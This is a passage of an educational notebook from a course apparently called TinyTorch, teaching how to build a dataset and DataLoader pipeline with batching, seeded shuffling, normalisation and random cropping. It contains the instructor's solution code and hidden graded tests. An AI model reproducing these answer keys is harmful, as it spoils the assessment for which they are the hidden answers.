# %% [markdown]
# # Module 08 — DataLoader: batches, shuffling, transforms and real datasets
#
# So far every model was fed arrays already in memory, in the right shape. Real training is fed
# like this:
#
# ```
#   files on disk ──► Dataset ──────────────► DataLoader ───────────────────► model
#   (idx, .bin)       len(ds) = 60 000        each epoch: shuffle the order,
#                     ds[i] = (image, label)  cut it into batches of 64,     (64, 1, 28, 28) float32
#                     ds.get_batch(indices)   augment, wrap in Tensors       (64,) int64
# ```
#
# Many training bugs live here: unshuffled data, skipped samples, augmentation no run can
# repeat, a truncated file parsed as data. You build the pipeline piece by piece, each tested.
#
# **Prerequisites:** module 01 (Tensor, `manual_seed`/`get_rng`). **Time:** about 2 hours.
#
# ## Learning Objectives
#
# 1. Implement the **Dataset / DataLoader protocol** with **one fancy index per batch**.
# 2. Make shuffling and augmentation **reproducible** (a per-loader generator) and resumable.
# 3. Write **batch transforms** without loops over samples: `Normalize`, `RandomCrop`, flips.
# 4. Parse the **idx** and **CIFAR-10 binary** formats, checking every header, and never unpickle.
# 5. Measure a dataset's memory (uint8 against float32) and decide where to convert.
#
# Downloads and dataset generators are **given code** (`tinytorch/data/_download.py`,
# `_generated.py`, sections 4 and 6).

# %% nbgrader={"grade": false, "grade_id": "dataloader-imports", "locked": false, "schema_version": 3, "solution": false}
#| default_exp data.loader
#| export
from __future__ import annotations

import gzip
import numbers
import zlib
from pathlib import Path
from typing import Any, Callable, Iterator, Sequence

import numpy as np
from numpy.lib.stride_tricks import sliding_window_view

from tinytorch.core._checks import as_array, is_int
from tinytorch.core.tensor import Tensor, get_rng
# Given code (hand-written package files, not exercises): re-exported here, explained in sections 4 and 6.
from tinytorch.data._generated import (DIGIT_STROKES, load_digits, make_blobs, make_spirals, make_xor,
                                       render_strokes)
from tinytorch.data._download import (CHECKSUMS, CIFAR10_ARCHIVE, CIFAR10_FILES, MIRRORS, MNIST_FILES,
                                      ChecksumError, DownloadError, data_root, download_file, ensure_file,
                                      extract_cifar10, file_checksum, root_origin, verify_checksum)

# %% nbgrader={"grade": false, "grade_id": "dataloader-demo-imports", "locked": false, "schema_version": 3, "solution": false}
# Used by the tests and demonstrations below, not by the loader itself.
import os
import tempfile
import time

from tinytorch.core.tensor import manual_seed
# Given (section 6): files in the real formats for the tests, their checksums, a demonstration.
from tinytorch.data._download import cifar_bytes, idx_bytes, registered_checksums, tour_of_downloads
from tinytorch.data._generated import check_generated_datasets  # given: see section 4

# %% [markdown]
# ## 1. Batches and the Dataset protocol
#
# Each training step estimates the gradient from a **mini-batch** of `B` samples (noise falls
# like `1/√B`). It is an honest estimate only if the batch is a **random sample**; files are
# often sorted by class, so every epoch needs a fresh random order.
#
# A **Dataset** answers `len(dataset)` and `dataset[i]` (e.g. `(image, label)`); a
# **DataLoader** orders, batches, augments and converts to Tensors. The simplest batch is one
# `dataset[i]` per sample, joined field by field:
#
# ```
#   [(x17, 3), (x3, 1), (x42, 7)]  ──one array per field──►  (array of shape (3, *x.shape), array([3, 1, 7]))
# ```
#
# Your turn: `stack_samples(samples)`, the slow path every dataset gets for free. A sample is a
# tuple (or list) of fields, or a single array or number (the shared `as_array`, given, unwraps Tensors).

# %% nbgrader={"grade": false, "grade_id": "stack-samples", "locked": false, "schema_version": 3, "solution": true}
#| export
def stack_samples(samples: list[Any]) -> Any:
    """Stack a list of samples into a batch.

    A sample that is a tuple/list of fields, e.g. (image, label), gives a tuple with one stacked
    array per field. Samples that are single arrays (or numbers) give one stacked array.
    Raises ValueError for an empty list and when samples have different numbers of fields.

        stack_samples([(x0, 3), (x1, 7)])  ->  (array [x0, x1], array [3, 7])
        stack_samples([x0, x1])             ->  array [x0, x1]
    """
    if not samples:
        raise ValueError("Cannot make a batch from an empty list of samples.")
    ### BEGIN SOLUTION
    first = samples[0]
    if not isinstance(first, (tuple, list)):
        return np.stack([as_array(s) for s in samples])
    widths = {len(s) if isinstance(s, (tuple, list)) else 1 for s in samples}
    if widths != {len(first)}:
        raise ValueError(f"Samples have different numbers of fields: {sorted(widths)}; "
                         f"every sample must be a tuple of the same length, e.g. (image, label).")
    return tuple(np.stack([as_array(s[k]) for s in samples]) for k in range(len(first)))
    ### END SOLUTION

# %% [markdown]
# **Stuck?** (optional) `np.stack` joins equal-shaped arrays along a new first axis. For
# tuples, collect field `k` of every sample and stack that list, for each `k`; compare the
# lengths of all samples with the first one's before you stack.

# %% nbgrader={"grade": true, "grade_id": "test-stack-samples", "locked": true, "points": 4, "schema_version": 3, "solution": false}
def test_unit_stack_samples():
    import pytest

    feats, labels = stack_samples([(Tensor([5.0, 25.0]), 1), (np.array([1.0, 1.0]), 0)])
    np.testing.assert_array_equal(feats, [[5.0, 25.0], [1.0, 1.0]])
    np.testing.assert_array_equal(labels, [1, 0])
    np.testing.assert_array_equal(stack_samples([np.zeros(2), np.ones(2)]), [[0, 0], [1, 1]])
    assert stack_samples([[np.zeros((2, 3)), 4, 5.0]] * 3)[0].shape == (3, 2, 3)
    with pytest.raises(ValueError):                                 # different numbers of fields
        stack_samples([(1, 2), (1, 2, 3)])
    with pytest.raises(ValueError):
        stack_samples([])


if __name__ == "__main__":
    test_unit_stack_samples()

# %% [markdown]
# ### The fast path: `get_batch`, and TensorDataset
#
# For a dataset in **one big array**, one call per sample spends its time in the interpreter.
# NumPy gathers all `B` rows in one integer-array ("fancy") index:
#
# ```
#   images[[17, 3, 42, …]]   ──►  (B, 1, 28, 28) in one C loop, one allocation
#   labels[[17, 3, 42, …]]   ──►  (B,)
# ```
#
# So our datasets have a third method, **`get_batch(indices)`** (PyTorch: `__getitems__`): the
# base `Dataset` does it the slow way, with `stack_samples`; array-backed datasets override it
# with one fancy index per array. The Complexity Analysis section measures the difference.
#
# `TensorDataset(X, y)` wraps arrays (or Tensors) sharing their first dimension: sample `i` is
# `(X[i], y[i])`, as NumPy arrays (the *loader* makes Tensors, once per batch). `_index_array`
# (given) turns a slice, list or array into validated integer indices.
#
# Your turn: `TensorDataset.__getitem__` and `TensorDataset.get_batch`.
# %% nbgrader={"grade": false, "grade_id": "dataset", "locked": false, "schema_version": 3, "solution": true}
#| export
def _index_array(indices: Any, length: int) -> np.ndarray:
    """Integer indices (1-D) from a slice, a list, an array or a Tensor, checked against `length`."""
    if isinstance(indices, slice):
        return np.arange(length)[indices]
    array = as_array(indices)
    if array.ndim != 1 or not (np.issubdtype(array.dtype, np.integer) or array.size == 0):
        raise TypeError(f"Batch indices must be a 1-D array of integers (or a slice); "
                        f"got shape {array.shape} and dtype {array.dtype}.")
    if array.size and (array.min() < -length or array.max() >= length):
        bad = array[(array < -length) | (array >= length)][0]
        raise IndexError(f"Index {bad} is out of range for a dataset of {length} samples.")
    return array.astype(np.intp, copy=False)


class Dataset:
    """A map-style dataset: subclasses define `__len__` and `__getitem__` (sample i).
    `get_batch(indices)` is the slow path here; array-backed datasets override it."""

    def __len__(self) -> int:
        raise NotImplementedError(f"{type(self).__name__} must define __len__.")

    def __getitem__(self, index: int) -> Any:
        raise NotImplementedError(f"{type(self).__name__} must define __getitem__.")

    def get_batch(self, indices: Sequence[int]) -> Any:
        """The samples at `indices`, stacked: one Python call per sample (the slow path)."""
        return stack_samples([self[int(i)] for i in _index_array(indices, len(self))])


class TensorDataset(Dataset):
    """Samples are rows of arrays that share their first dimension: ds[i] = (X[i], y[i], ...).

    TensorDataset(*tensors): Tensors or array-likes, at least one, same first dimension.
    Stored as NumPy arrays without copying (`.arrays`); indexing returns NumPy arrays.
    """

    def __init__(self, *tensors: Any) -> None:
        if not tensors:
            raise ValueError("TensorDataset needs at least one array, e.g. TensorDataset(X, y).")
        arrays = tuple(as_array(t) for t in tensors)
        for k, array in enumerate(arrays):
            if array.ndim == 0:
                raise ValueError(f"TensorDataset argument {k} is a single number; every argument "
                                 f"needs a first dimension that counts the samples.")
        if len({len(a) for a in arrays}) != 1:
            shapes = ", ".join(str(a.shape) for a in arrays)
            raise ValueError(f"TensorDataset needs the same number of samples (first dimension) in "
                             f"every array; got shapes {shapes}.")
        self.arrays = arrays

    def __len__(self) -> int:
        return len(self.arrays[0])

    def __getitem__(self, index: Any) -> tuple:
        """An int gives a tuple of samples; a slice, list or integer array a tuple of batches.

        An int out of range (negative ints count from the end) raises IndexError naming the
        index and the length: "Index 12 is out of range for a dataset of 10 samples."
        Serve ints through get_batch too, so that a subclass that converts batches in get_batch
        (ImageDataset, section 5) converts single samples the same way.
        """
        ### BEGIN SOLUTION
        if is_int(index):
            n = len(self)
            if not -n <= index < n:
                raise IndexError(f"Index {index} is out of range for a dataset of {n} samples.")
            return tuple(field[0] for field in self.get_batch(np.array([index])))
        return self.get_batch(index)
        ### END SOLUTION

    def get_batch(self, indices: Any) -> tuple[np.ndarray, ...]:
        """(X[indices], y[indices], ...): one fancy index per array, no loop over samples.

        Indices as in __getitem__ (slice, list, integer array or Tensor), validated by the given
        `_index_array` (TypeError for non-integers, IndexError out of range)."""
        ### BEGIN SOLUTION
        indices = _index_array(indices, len(self))
        return tuple(array[indices] for array in self.arrays)
        ### END SOLUTION

    def __repr__(self) -> str:
        fields = ", ".join(f"{a.shape} {a.dtype}" for a in self.arrays)
        return f"{type(self).__name__}({len(self)} samples: {fields})"

# %% [markdown]
# **Stuck?** (optional) For an int `i`: `self.get_batch(np.array([i]))` gives fields of length
# 1; take element 0 of each. In `get_batch`, index every array of `self.arrays` with the
# validated indices and return them as a tuple.

# %% nbgrader={"grade": true, "grade_id": "test-dataset", "locked": true, "points": 6, "schema_version": 3, "solution": false}
def test_unit_tensor_dataset():
    import pytest

    X = np.arange(20, dtype=np.float32).reshape(10, 2)
    y = np.arange(10) % 3
    ds = TensorDataset(Tensor(X), y)
    assert len(ds) == 10
    x3, y3 = ds[3]
    np.testing.assert_array_equal(x3, [6.0, 7.0])
    assert y3 == 0 and x3.dtype == np.float32
    np.testing.assert_array_equal(ds[-1][0], X[9])

    # The fast path: an integer array gives whole batches, in the order asked for.
    xb, yb = ds[np.array([7, 2, 2, 0])]
    np.testing.assert_array_equal(xb, X[[7, 2, 2, 0]])
    np.testing.assert_array_equal(yb, y[[7, 2, 2, 0]])
    xs, ys = ds[2:5]
    assert xs.shape == (3, 2) and list(ys) == [2, 0, 1]

    with pytest.raises(IndexError, match="Index 10 is out of range for a dataset of 10 samples"):
        ds[10]
    with pytest.raises(IndexError, match="out of range"):
        ds[np.array([0, 11])]
    with pytest.raises(ValueError, match="same number of samples") as err:
        TensorDataset(X, y[:9])
    assert "(10, 2)" in str(err.value) and "(9,)" in str(err.value)

    # The slow path stacks samples one by one, and agrees with the fast path.
    class Squares(Dataset):
        def __len__(self):
            return 6

        def __getitem__(self, i):
            return Tensor([float(i), float(i * i)]), i % 2

    feats, labels = Squares().get_batch([5, 1])
    np.testing.assert_array_equal(feats, [[5.0, 25.0], [1.0, 1.0]])
    np.testing.assert_array_equal(labels, [1, 1])
    for a, b in zip(Dataset.get_batch(ds, [4, 0, 9]), ds.get_batch([4, 0, 9])):
        np.testing.assert_array_equal(a, b)

    ### BEGIN HIDDEN TESTS
    assert ds[np.int64(2)][1] == 2 and ds.get_batch([1])[0].shape == (1, 2)
    with pytest.raises(TypeError, match="1-D array of integers"):
        ds.get_batch(np.array([0.5, 1.0]))
    assert ds.get_batch(np.array([], dtype=np.int64))[0].shape == (0, 2)
    with pytest.raises(ValueError, match="single number"):
        TensorDataset(np.float32(3.0))
    assert "10 samples" in repr(ds)
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_tensor_dataset()

# %% [markdown]
# ## 2. The DataLoader
#
# One epoch of a loader with `batch_size=4, shuffle=True` over 10 samples:
#
# ```
#   order = shuffled 0…9        [7 2 9 0 | 4 8 1 5 | 3 6]          a new order every epoch
#                                └──┬──┘   └──┬──┘   └┬┘
#   get_batch(order[0:4])         batch 0   batch 1   batch 2       len(loader) = ceil(10/4) = 3
#                                                      (2 samples; dropped if drop_last=True)
#   transform(inputs, rng)      augment the whole batch at once (section 3)
#   Tensor(inputs), Tensor(labels, int64)                            what the model receives
# ```
#
# `drop_last=True` skips the last, smaller batch (noisier; batch norm misbehaves on a batch of
# one). Floats become float32 Tensors and **integer arrays int64**, as `CrossEntropyLoss` expects.
#
# ### Reproducible shuffling, and resuming: `state_dict()`
#
# Each loader owns a `np.random.Generator`, `loader.generator`, and draws every epoch's order
# (and every random augmentation) from it: `seed=0` means `np.random.default_rng(0)`; `seed=None`
# **spawns** it from TinyTorch's (`get_rng().spawn(1)[0]`), so `manual_seed(0)` reproduces it
# too, without shifting the model's initialisation (spawning draws no number). To resume a run
# *exactly* in a new process, a checkpoint holds `loader.state_dict()` (the generator's state,
# JSON-able) and `load_state_dict(state)` restores it (given; module 07's `Trainer` saves it).
#
# Your turn: the number of batches, the order of an epoch, and the batch loop.

# %% nbgrader={"grade": false, "grade_id": "dataloader", "locked": false, "schema_version": 3, "solution": true}
#| export
def _batch_tensor(array: Any) -> Tensor:
    """A batch as a Tensor: integer arrays (labels) become int64, everything else float32."""
    array = np.asarray(array)
    return Tensor(array, dtype=np.int64 if np.issubdtype(array.dtype, np.integer) else None)


def apply_transform(transform: Callable | None, x: np.ndarray, rng: np.random.Generator | None) -> np.ndarray:
    """Apply a transform to a batch; TinyTorch `Transform`s also receive the generator to draw from."""
    if transform is None:
        return x
    if isinstance(transform, Transform):
        return transform(x, rng=rng)
    return transform(x)  # any other callable, e.g. lambda x: x.reshape(len(x), -1)


class Transform:
    """Base class of batch transforms: `transform(batch, rng=None) -> batch`, NumPy in, NumPy out.

    Random transforms draw from `rng` (the loader passes its generator), or from TinyTorch's
    get_rng() when called without one.
    """

    def __call__(self, x: np.ndarray, rng: np.random.Generator | None = None) -> np.ndarray:
        raise NotImplementedError(f"{type(self).__name__} must define __call__(x, rng=None).")

    def extra_repr(self) -> str:
        return ""

    def __repr__(self) -> str:
        return f"{type(self).__name__}({self.extra_repr()})"


class DataLoader:
    """Serve a dataset in batches of Tensors: `for x, y in DataLoader(ds, batch_size=64, shuffle=True)`.

    DataLoader(dataset, batch_size=1, shuffle=False, drop_last=False, seed=None, transform=None)
        dataset:   anything with __len__ and __getitem__; `get_batch(indices)` if it has one
                   (the fast path), otherwise one __getitem__ per sample (the slow path).
        shuffle:   a new random order every epoch, drawn from `self.generator`.
        drop_last: skip the last batch when it has fewer than batch_size samples.
        seed:      seeds `self.generator`; None spawns it from TinyTorch's get_rng().
        transform: applied to the inputs (the first field) of every batch, as NumPy arrays.

    Iterating yields a tuple of Tensors per batch (or one Tensor if samples are single arrays).
    """

    def __init__(self, dataset: Any, batch_size: int = 1, shuffle: bool = False, drop_last: bool = False,
                 seed: int | None = None, transform: Callable | None = None) -> None:
        if not (hasattr(dataset, "__len__") and hasattr(dataset, "__getitem__")):
            raise TypeError(f"DataLoader needs a dataset with __len__ and __getitem__, "
                            f"got {type(dataset).__name__}.")
        if not is_int(batch_size) or batch_size < 1:
            raise ValueError(f"batch_size must be a positive integer, got {batch_size!r}.")
        if len(dataset) == 0:
            raise ValueError("DataLoader got an empty dataset (0 samples): there is nothing to iterate over.")
        if seed is not None and not is_int(seed):
            raise TypeError(f"seed must be an integer or None, got {seed!r}.")
        if transform is not None and not callable(transform):
            raise TypeError(f"transform must be callable, got {type(transform).__name__}.")
        self.dataset = dataset
        self.batch_size = int(batch_size)
        self.shuffle = bool(shuffle)
        self.drop_last = bool(drop_last)
        self.transform = transform
        self.generator = np.random.default_rng(seed) if seed is not None else get_rng().spawn(1)[0]

    def _fetch(self, indices: np.ndarray) -> Any:
        """One batch of NumPy arrays: the dataset's get_batch if it has one, else sample by sample."""
        get_batch = getattr(self.dataset, "get_batch", None)
        if get_batch is not None:
            return get_batch(indices)
        return stack_samples([self.dataset[int(i)] for i in indices])

    def _to_tensors(self, batch: Any) -> Any:
        """Transform the inputs (the first field), then wrap every field as a Tensor."""
        if isinstance(batch, (tuple, list)):
            inputs, *rest = batch
            return (_batch_tensor(apply_transform(self.transform, inputs, self.generator)),
                    *(_batch_tensor(field) for field in rest))
        return _batch_tensor(apply_transform(self.transform, batch, self.generator))

    def state_dict(self) -> dict[str, Any]:
        """Where the loader's random stream stands (JSON-able): save it to resume shuffling exactly."""
        return {"generator": self.generator.bit_generator.state}

    def load_state_dict(self, state: dict[str, Any]) -> None:
        """Continue the random stream saved by state_dict(): the next epoch is the one that would have come."""
        expected = type(self.generator.bit_generator).__name__
        saved = state.get("generator") if isinstance(state, dict) else None
        if not isinstance(saved, dict) or saved.get("bit_generator") != expected:
            raise ValueError(f"DataLoader.load_state_dict expects the dict returned by state_dict(), holding a "
                             f"{expected} generator state; got {state!r:.80}.")
        self.generator.bit_generator.state = saved

    def __repr__(self) -> str:
        return (f"DataLoader({self.dataset!r}, batch_size={self.batch_size}, shuffle={self.shuffle}, "
                f"drop_last={self.drop_last}: {len(self)} batches)")

    def __iter__(self) -> Iterator[Any]:
        # The order is drawn now, when iteration starts, not at the first next().
        return self._batches(self.epoch_order())

    # ---- your turn -------------------------------------------------------------------------

    def __len__(self) -> int:
        """The number of batches in one epoch: ceil(N / batch_size), or floor with drop_last."""
        ### BEGIN SOLUTION
        n = len(self.dataset)
        return n // self.batch_size if self.drop_last else -(-n // self.batch_size)
        ### END SOLUTION

    def epoch_order(self) -> np.ndarray:
        """The sample indices of one epoch, an int array of length N: every index once, in a fresh
        random order drawn from self.generator if shuffling (so every epoch differs), else 0, 1, ..., N-1."""
        ### BEGIN SOLUTION
        n = len(self.dataset)
        return self.generator.permutation(n) if self.shuffle else np.arange(n)
        ### END SOLUTION

    def _batches(self, order: np.ndarray) -> Iterator[Any]:
        """Yield `len(self)` batches, in `order`: consecutive runs of batch_size indices, each
        fetched with `self._fetch(indices)` and converted with `self._to_tensors(batch)`."""
        ### BEGIN SOLUTION
        for start in range(0, len(self) * self.batch_size, self.batch_size):
            indices = order[start:start + self.batch_size]
            yield self._to_tensors(self._fetch(indices))
        ### END SOLUTION

# %% [markdown]
# **Stuck?** (optional) `-(-n // b)` is ceil division with integers only. A generator has a
# `permutation(n)` method. In `_batches`, `range(0, len(self) * batch_size, batch_size)` gives
# each batch's start, and slicing past the end of an array simply stops there.

# %% nbgrader={"grade": true, "grade_id": "test-dataloader", "locked": true, "points": 10, "schema_version": 3, "solution": false}
def test_unit_dataloader():
    import json

    import pytest

    X = np.arange(10, dtype=np.float64).reshape(10, 1)
    y = np.arange(10, dtype=np.int32)
    ds = TensorDataset(X, y)

    # In order, ceil(10 / 4) = 3 batches, the last one short; Tensors of float32 and int64.
    loader = DataLoader(ds, batch_size=4)
    assert len(loader) == 3
    batches = list(loader)
    assert [len(yb.data) for _, yb in batches] == [4, 4, 2]
    xb, yb = batches[0]
    assert isinstance(xb, Tensor) and xb.dtype == np.float32 and yb.dtype == np.int64
    np.testing.assert_array_equal(np.concatenate([b.data for _, b in batches]), np.arange(10))
    dropped = DataLoader(ds, batch_size=4, drop_last=True)
    assert len(dropped) == 2 and [len(b.data) for _, b in dropped] == [4, 4]
    assert len(DataLoader(ds, batch_size=5)) == 2 and len(DataLoader(ds, batch_size=64)) == 1

    # Shuffled: every sample exactly once per epoch, a new order each epoch, and reproducible.
    loader = DataLoader(ds, batch_size=3, shuffle=True, seed=0)
    epoch1, epoch2 = (np.concatenate([b.data for _, b in loader]) for _ in range(2))
    assert sorted(epoch1) == sorted(epoch2) == list(range(10)) and not np.array_equal(epoch1, epoch2)
    again = DataLoader(ds, batch_size=3, shuffle=True, seed=0)
    np.testing.assert_array_equal(np.concatenate([b.data for _, b in again]), epoch1)
    # Inputs and labels stay paired.
    for xb, yb in DataLoader(ds, batch_size=3, shuffle=True, seed=1):
        np.testing.assert_array_equal(xb.data[:, 0], yb.data)

    # seed=None: manual_seed makes the loader reproducible.
    runs = []
    for _ in range(2):
        manual_seed(7)
        runs.append(np.concatenate([b.data for _, b in DataLoader(ds, batch_size=10, shuffle=True)]))
    np.testing.assert_array_equal(*runs)

    # state_dict: a new loader continues the stream where the saved one stood.
    loader = DataLoader(ds, batch_size=4, shuffle=True, seed=3)
    list(loader)
    saved = loader.state_dict()
    expected_next = np.concatenate([b.data for _, b in loader])
    resumed = DataLoader(ds, batch_size=4, shuffle=True, seed=99)
    resumed.load_state_dict(json.loads(json.dumps(saved)))  # survives a JSON checkpoint
    np.testing.assert_array_equal(np.concatenate([b.data for _, b in resumed]), expected_next)
    with pytest.raises(ValueError, match="expects the dict returned by state_dict"):
        resumed.load_state_dict({"generator": 42})

    with pytest.raises(ValueError, match="batch_size must be a positive integer, got 0"):
        DataLoader(ds, batch_size=0)
    with pytest.raises(ValueError, match="empty dataset"):
        DataLoader(TensorDataset(np.zeros((0, 2))))

    ### BEGIN HIDDEN TESTS
    class Plain:  # no get_batch (duck-typed): the slow path, with single-array samples
        def __len__(self):
            return 5

        def __getitem__(self, i):
            return np.full(2, i, dtype=np.float32)

    out = list(DataLoader(Plain(), batch_size=2))
    assert len(out) == 3 and isinstance(out[0], Tensor) and out[0].shape == (2, 2)
    np.testing.assert_array_equal(out[2].data, [[4.0, 4.0]])
    xb, yb = next(iter(DataLoader(ds, batch_size=10, transform=lambda a: a * 2)))  # inputs only
    np.testing.assert_array_equal(np.c_[xb.data[:, 0], yb.data], np.c_[2 * np.arange(10), np.arange(10)])
    with pytest.raises(ValueError, match="positive integer"):
        DataLoader(ds, batch_size=2.5)
    with pytest.raises(TypeError, match="__len__ and __getitem__"):
        DataLoader(42)
    assert "3 batches" in repr(DataLoader(ds, batch_size=4))
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_dataloader()

# %% [markdown]
# ## 3. Transforms and augmentation, a whole batch at a time
#
# **Preprocessing** is the same every time: subtract each channel's mean, divide by its std
# (module 03's initialisation assumes unit-variance inputs). **Augmentation** is random every
# time: shift the image a few pixels, mirror it, so each epoch sees a slightly different training
# set (CIFAR-10's recipe: pad 4, crop 32, flip). Our transforms take the **whole batch**,
# `(N, C, H, W)` or `(N, D)`, NumPy in and out, drawing from the loader's generator.
#
# `Normalize(mean, std)` computes `(x - mean) / std` per channel (axis 1) or per feature, or with
# one number for everything (MNIST: 0.1307, 0.3081). `Compose([t1, t2, ...])` applies transforms
# in order, handing the generator to each.
#
# Your turn: the arithmetic of `Normalize` and the loop of `Compose`.

# %% nbgrader={"grade": false, "grade_id": "normalize-compose", "locked": false, "schema_version": 3, "solution": true}
#| export
def _float_batch(x: Any, who: str, min_ndim: int = 2) -> np.ndarray:
    """A batch as a floating-point array (integers become float32), with at least `min_ndim` axes."""
    x = as_array(x)
    if x.ndim < min_ndim:
        raise ValueError(f"{who} works on whole batches with shape (N, ...) of at least {min_ndim} "
                         f"dimensions; got shape {x.shape}.")
    return x if np.issubdtype(x.dtype, np.floating) else x.astype(np.float32)


class Normalize(Transform):
    """(x - mean) / std with one mean and std per channel (axis 1), or one for everything.

    Normalize(mean, std): numbers or sequences; every std must be > 0.
    """

    def __init__(self, mean: Any, std: Any) -> None:
        self.mean = np.atleast_1d(np.asarray(mean, dtype=np.float32))
        self.std = np.atleast_1d(np.asarray(std, dtype=np.float32))
        if self.mean.ndim != 1 or self.std.ndim != 1:
            raise ValueError("Normalize takes one mean and one std per channel (numbers or flat sequences).")
        if len(self.mean) != len(self.std) and 1 not in (len(self.mean), len(self.std)):
            raise ValueError(f"Normalize got {len(self.mean)} means but {len(self.std)} stds; "
                             f"give one of each per channel.")
        if not np.all(self.std > 0):
            raise ValueError(f"Normalize needs every std > 0, got {self.std.tolist()}.")

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """(x - mean) / std, with mean and std applying along axis 1 (channels or features),
        in x's floating dtype (float32 stays float32)."""
        x = _float_batch(x, "Normalize")
        channels = max(len(self.mean), len(self.std))
        if channels not in (1, x.shape[1]):
            raise ValueError(f"Normalize has {channels} mean/std values but the batch has {x.shape[1]} "
                             f"channels (shape {x.shape}); give one value per channel, or one for all.")
        ### BEGIN SOLUTION
        shape = (1, -1) + (1,) * (x.ndim - 2)
        return (x - self.mean.reshape(shape).astype(x.dtype)) / self.std.reshape(shape).astype(x.dtype)
        ### END SOLUTION

    def extra_repr(self) -> str:
        return f"mean={self.mean.tolist()}, std={self.std.tolist()}"


class Compose(Transform):
    """Apply transforms in order: Compose([RandomCrop(32, padding=4), Normalize(...)])."""

    def __init__(self, transforms: Sequence[Callable]) -> None:
        self.transforms = list(transforms)
        for t in self.transforms:
            if not callable(t):
                raise TypeError(f"Compose takes callables (transforms), got {type(t).__name__}.")

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """Each transform in turn, handing `rng` on (use apply_transform)."""
        ### BEGIN SOLUTION
        for transform in self.transforms:
            x = apply_transform(transform, x, rng)
        return x
        ### END SOLUTION

    def extra_repr(self) -> str:
        return ", ".join(repr(t) for t in self.transforms)

# %% [markdown]
# **Stuck?** (optional) Broadcasting lines shapes up from the right, so a `(C,)` mean would meet
# the *last* axis. Reshape it to `(1, C, 1, …, 1)`, one 1 for every axis after the channels,
# and cast it to `x.dtype`. `Compose` is a loop over its transforms.

# %% nbgrader={"grade": true, "grade_id": "test-normalize-compose", "locked": true, "points": 8, "schema_version": 3, "solution": false}
def test_unit_normalize_and_compose():
    import pytest

    rng = np.random.default_rng(0)
    images = rng.random((5, 3, 4, 4), dtype=np.float32)
    norm = Normalize([0.5, 0.4, 0.3], [0.2, 0.25, 0.5])
    out = norm(images)
    assert out.shape == images.shape and out.dtype == np.float32
    np.testing.assert_allclose(out[:, 1], (images[:, 1] - 0.4) / 0.25, rtol=1e-6)
    np.testing.assert_allclose(out[:, 2], (images[:, 2] - 0.3) / 0.5, rtol=1e-6)
    # (N, D): one value per feature; a single number for everything.
    flat = rng.random((6, 2), dtype=np.float32)
    np.testing.assert_allclose(Normalize([1.0, 2.0], [2.0, 4.0])(flat), (flat - [1, 2]) / [2, 4], rtol=1e-6)
    np.testing.assert_allclose(Normalize(0.1307, 0.3081)(flat), (flat - 0.1307) / 0.3081, rtol=1e-6)

    both = Compose([Normalize(0.5, 0.5), lambda a: a * 10])
    np.testing.assert_allclose(both(flat), (flat - 0.5) / 0.5 * 10, rtol=1e-6)
    np.testing.assert_array_equal(Compose([])(flat), flat)

    with pytest.raises(ValueError, match=r"3 mean/std values but the batch has 1 channels"):
        norm(np.zeros((2, 1, 4, 4)))
    with pytest.raises(ValueError, match="every std > 0"):
        Normalize(0.0, 0.0)

    ### BEGIN HIDDEN TESTS
    # Integers become float32; float64 stays float64.
    assert Normalize(0.0, 1.0)(np.ones((2, 3), dtype=np.uint8)).dtype == np.float32
    assert Normalize(0.0, 2.0)(np.ones((2, 3))).dtype == np.float64
    assert "mean=[0.5" in repr(norm)
    with pytest.raises(TypeError, match="callables"):
        Compose([3])
    ### END HIDDEN TESTS


if __name__ == "__main__":
    test_unit_normalize_and_compose()

# %% [markdown]
# ### RandomCrop without a loop over samples
#
# `RandomCrop(size, padding)` pads each image with `padding` zeros and cuts a `size × size`
# window at a **different random position for every sample**, without a loop: a *view* of every
# window (`sliding_window_view`, no copy) has shape `(N, C, H-h+1, W-w+1, h, w)`, axes 2 and 3
# saying where a window starts; one fancy index with a random start per sample gathers the crops.
#
# `RandomHorizontalFlip(p)` mirrors each image with probability `p` (no vertical flips: a flipped
# 6 is a 9). Both refuse a flattened `(N, D)` batch: augment first, flatten afterwards.

# %% nbgrader={"grade": false, "grade_id": "random-crop-flip", "locked": false, "schema_version": 3, "solution": true}
#| export
def _image_batch(x: Any, who: str) -> np.ndarray:
    x = as_array(x)
    if x.ndim not in (3, 4):
        raise ValueError(f"{who} expects a batch of images (N, C, H, W) or (N, H, W); got shape {x.shape}. "
                         f"A flattened (N, D) batch has no rows and columns: apply {who} before flattening.")
    return x


def _pair(value: Any, what: str) -> tuple[int, int]:
    pair = (value, value) if is_int(value) else tuple(value)
    if len(pair) != 2 or not all(is_int(v) and v > 0 for v in pair):
        raise ValueError(f"{what} must be a positive integer or a pair (height, width), got {value!r}.")
    return int(pair[0]), int(pair[1])


class RandomCrop(Transform):
    """Pad every image by `padding` zeros, then cut a `size` window at a random place per sample.

    RandomCrop(size, padding=0): size is an int (square) or (height, width).
    """

    def __init__(self, size: int | tuple[int, int], padding: int = 0) -> None:
        self.size = _pair(size, "RandomCrop size")
        if not is_int(padding) or padding < 0:
            raise ValueError(f"RandomCrop padding must be an integer >= 0, got {padding!r}.")
        self.padding = int(padding)

    def __call__(self, x: Any, rng: np.random.Generator | None = None) -> np.ndarray:
        """(N, [C,] H, W) -> (N, [C,] h, w): one random window per sample, no loop over samples.

        Pad the last two axes with `padding` zeros; each sample's window starts at a position
        drawn uniformly from `rng` among all those that fit in the padded image."""
        x = _image_batch(x, "RandomCrop")
        rng = get_rng() if rng is None else rng
        (h, w), p = self.size, self.padding
        height, width = x.shape[-2] + 2 * p, x.shape[-1] + 2 * p
        if h > height or w > width:
            raise ValueError(f"RandomCrop size {(h, w)} is larger than the padded images "
                             f"({height}, {width}) of the batch of shape {x.shape}.")
        ### BEGIN SOLUTION
        if p:
            x = np.pad(x, [(0, 0)] * (x.ndim - 2) + [(p, p), (p, p)])
        windows = sliding_window_view(x, (h, w), axis=(-2, -1))  # a view: no memory, no copy
        n = len(x)
        top = rng.integers(0, height - h + 1, size=n)
        left = rng.integers(0, width - w + 1, size=n)
        channels = (slice(None),) * (x.ndim - 3)
        return windows[(np.arange(n), *channels, top, left)]
        ### END SOLUTION

    def extra_repr(self) -> str:
        return f"size={self.size}, padding={self.padding}"


class RandomHorizontalFlip(Transform):
    """Mirror each image left-right with probability p (one coin per sample)."""

    def __init__(self, p: float = 0.5) -> None:
        if not isinstance(p, numbers.Real) or not 0.0 <= p <= 1.0:
